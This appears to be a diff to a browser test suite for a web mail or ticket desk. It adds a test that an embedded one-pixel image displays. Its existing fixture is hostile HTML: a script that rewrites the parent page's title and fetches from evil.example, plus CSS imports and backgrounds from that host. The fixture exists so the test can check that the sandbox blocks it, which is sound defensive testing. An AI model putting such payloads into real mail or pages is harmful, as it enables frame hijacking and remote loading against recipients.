@@ -1,9 +1,14 @@
 """Hostile mail in a real browser: it loads nothing, runs nothing, and stays in its frame."""
 
+import base64
+
 from playwright.sync_api import expect
 
 from tests.browser.conftest import Desk, SignIn
 
+DOT = base64.b64decode(
+    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
+)
 HOSTILE = """<html><body>
 <script>parent.document.title = 'taken over'; fetch('http://evil.example/script')</script>
 <style>@import url('http://evil.example/style'); body { background: url(http://evil.example/bg) }</style>
@@ -38,3 +43,14 @@ def test_a_hostile_mail_does_nothing(desk: Desk, sign_in: SignIn) -> None:
     assert not [one for one in asked if "logout" in one or "/solve/" in one]
     assert "taken over" not in page.title()
     assert frame.locator("form, input, script, iframe, style ~ style").count() == 0
+
+
+def test_a_picture_inside_the_mail_is_shown(desk: Desk, sign_in: SignIn) -> None:
+    html = '<p>Look:</p><img src="cid:picture" alt="The vase">'
+    desk.write("Picture journey", "Look:", html=html, picture=DOT)
+    page = sign_in()
+    page.goto("/inbox/open/?sort=newest")
+    expect(page.locator(".ticket-row").first).to_contain_text("Picture journey", timeout=4000)
+    page.locator(".ticket-row").first.click()
+    picture = page.frame_locator("iframe.framed").first.locator("img")
+    expect(picture).to_have_js_property("naturalWidth", 1)
